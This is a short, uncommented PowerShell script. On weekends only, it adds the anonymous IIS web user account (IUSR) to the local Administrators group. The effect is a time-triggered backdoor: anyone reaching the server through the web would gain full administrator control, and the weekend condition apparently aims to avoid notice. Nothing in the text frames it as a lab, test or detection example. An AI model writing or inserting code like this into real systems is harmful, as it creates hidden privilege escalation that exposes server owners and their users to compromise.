$day = (Get-Date).DayOfWeek
if ($day -eq 'Saturday' -or $day -eq 'Sunday') {
    Add-LocalGroupMember -Group Administrators -Member IUSR
}
